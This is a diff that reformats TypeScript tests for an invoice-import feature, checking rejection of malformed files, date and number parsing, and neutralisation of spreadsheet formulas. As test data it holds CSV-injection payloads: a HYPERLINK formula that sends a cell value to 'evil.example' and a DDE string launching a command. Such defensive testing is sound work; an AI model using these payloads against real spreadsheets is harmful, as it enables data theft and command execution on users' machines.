@@ -22,23 +22,38 @@ describe.each(ENGINES)('bad import input on %s', (engine) => {
     await h.close();
   });
 
-  const stored = (number: string) => h.ctx.database.db.select().from(documents)
-    .where(and(eq(documents.subscriberId, t.subscriberId), eq(documents.documentNumber, number)));
+  const stored = (number: string) =>
+    h.ctx.database.db
+      .select()
+      .from(documents)
+      .where(and(eq(documents.subscriberId, t.subscriberId), eq(documents.documentNumber, number)));
   const refusedWith = async (name: string, content: Buffer | string, importType: ImportType = 'SalesDocuments') => {
     const res = await upload(h, token, name, content, importType);
     expect(res.statusCode).toBeGreaterThanOrEqual(400);
     return res.json().errors[0] as { code: string; message: string };
   };
   const errorsOf = async (importId: number) =>
-    ((await api.post(I.errors, { importId, size: 100 })).json().data.items as { row: number; column: string | null; value: string | null; code: string; type: string }[])
-      .filter((e) => e.type === 'Error');
+    (
+      (await api.post(I.errors, { importId, size: 100 })).json().data.items as {
+        row: number;
+        column: string | null;
+        value: string | null;
+        code: string;
+        type: string;
+      }[]
+    ).filter((e) => e.type === 'Error');
 
   it('refuses an empty file, a PDF renamed .xlsx, an old .xls, a corrupted xlsx and a zip bomb, with clear errors', async () => {
     expect((await refusedWith('empty.csv', '')).code).toBe('IMP0001');
-    expect((await refusedWith('invoice.xlsx', Buffer.from('%PDF-1.7\n%âãÏÓ\n1 0 obj\n<< /Type /Catalog >>\nendobj\n'))).code).toBe('IMP0002');
+    expect((await refusedWith('invoice.xlsx', Buffer.from('%PDF-1.7\n%âãÏÓ\n1 0 obj\n<< /Type /Catalog >>\nendobj\n'))).code).toBe(
+      'IMP0002',
+    );
     // Excel 5.0/95 (BIFF5) is refused; a container whose header is all zeros after the signature is damaged.
     expect((await refusedWith('old.xls', xlsOf([['x']], { biff5: true }))).code).toBe('IMP0003');
-    expect((await refusedWith('broken.xls', Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(512)]))).code).toBe('IMP0024');
+    expect(
+      (await refusedWith('broken.xls', Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(512)])))
+        .code,
+    ).toBe('IMP0024');
     // JSON only in an official format, and only as sales documents.
     expect((await refusedWith('vendors.json', '{"gstin":"x"}', 'Vendors')).code).toBe('IMP0026');
     const good = await xlsxOf([headerOf(), saleRow()]);
@@ -94,19 +109,32 @@ describe.each(ENGINES)('bad import input on %s', (engine) => {
     serialRow[dateAt] = 45_397; // 15-04-2024 as Excel stores it
     const dateCell: unknown[] = saleRow({ documentNumber: 'D/2' });
     dateCell[dateAt] = new Date(Date.UTC(2024, 3, 16));
-    const xlsx = await xlsxOf([header, serialRow, dateCell, saleRow({ documentNumber: 'D/3', documentDate: '2024-04-17' }), saleRow({ documentNumber: 'D/4', documentDate: '18/04/2024' })]);
+    const xlsx = await xlsxOf([
+      header,
+      serialRow,
+      dateCell,
+      saleRow({ documentNumber: 'D/3', documentDate: '2024-04-17' }),
+      saleRow({ documentNumber: 'D/4', documentDate: '18/04/2024' }),
+    ]);
     expect((await importFile(h, token, 'dates.xlsx', xlsx)).progress.status).toBe('Success');
     expect((await stored('D/1'))[0]?.documentDate).toBe('2024-04-15');
     expect((await stored('D/2'))[0]?.documentDate).toBe('2024-04-16');
     expect((await stored('D/3'))[0]?.documentDate).toBe('2024-04-17');
     expect((await stored('D/4'))[0]?.documentDate).toBe('2024-04-18');
-    const csv = csvOf([header, saleRow({ documentNumber: 'D/5', documentDate: '45397' }), saleRow({ documentNumber: 'N/1', taxable: '1,00,000.50', igst: '18,000.09' }), saleRow({ documentNumber: 'N/2', taxable: '1000.505' })]);
+    const csv = csvOf([
+      header,
+      saleRow({ documentNumber: 'D/5', documentDate: '45397' }),
+      saleRow({ documentNumber: 'N/1', taxable: '1,00,000.50', igst: '18,000.09' }),
+      saleRow({ documentNumber: 'N/2', taxable: '1000.505' }),
+    ]);
     const { importId, progress } = await importFile(h, token, 'numbers.csv', csv);
     expect(progress.status).toBe('SuccessWithError');
     expect((await stored('D/5'))[0]?.documentDate).toBe('2024-04-15');
     expect((await stored('N/1'))[0]).toMatchObject({ taxable: 10_000_050, igst: 1_800_009 });
     expect(await stored('N/2')).toHaveLength(0);
-    expect(await errorsOf(importId)).toEqual([expect.objectContaining({ row: 4, column: 'Taxable value', value: '1000.505', code: 'IMP0011' })]);
+    expect(await errorsOf(importId)).toEqual([
+      expect.objectContaining({ row: 4, column: 'Taxable value', value: '1000.505', code: 'IMP0011' }),
+    ]);
   });
 
   it('keeps formula cells as text, never evaluates them, and escapes them in the error export', async () => {
@@ -120,13 +148,19 @@ describe.each(ENGINES)('bad import input on %s', (engine) => {
     sheet.addRow(saleRow({ documentNumber: 'F/3', description: '@SUM(1+1)*cmd' }));
     const { importId, progress } = await importFile(h, token, 'formula.xlsx', Buffer.from(await workbook.xlsx.writeBuffer()));
     expect(progress.status).toBe('SuccessWithError');
-    expect(await errorsOf(importId)).toEqual([expect.objectContaining({ row: 3, column: 'Taxable value', value: '=500*2.001', code: 'IMP0015' })]);
+    expect(await errorsOf(importId)).toEqual([
+      expect.objectContaining({ row: 3, column: 'Taxable value', value: '=500*2.001', code: 'IMP0015' }),
+    ]);
     expect(await stored('F/2')).toHaveLength(0);
     // Text that merely looks like a formula is data: stored as written.
     expect((await stored('F/3'))[0]).toBeDefined();
 
     const injection = '=HYPERLINK("http://evil.example/?"&A1,"click")';
-    const csv = csvOf([header, saleRow({ documentNumber: 'F/4', counterpartyName: injection }), saleRow({ documentNumber: 'F/5', description: '+cmd|" /C calc"!A0', taxable: '1.234' })]);
+    const csv = csvOf([
+      header,
+      saleRow({ documentNumber: 'F/4', counterpartyName: injection }),
+      saleRow({ documentNumber: 'F/5', description: '+cmd|" /C calc"!A0', taxable: '1.234' }),
+    ]);
     const second = await importFile(h, token, 'injection.csv', csv);
     expect(second.progress.status).toBe('Failed');
     const exported = await readXlsx((await api.get(I.export, { importId: second.importId })).rawPayload);
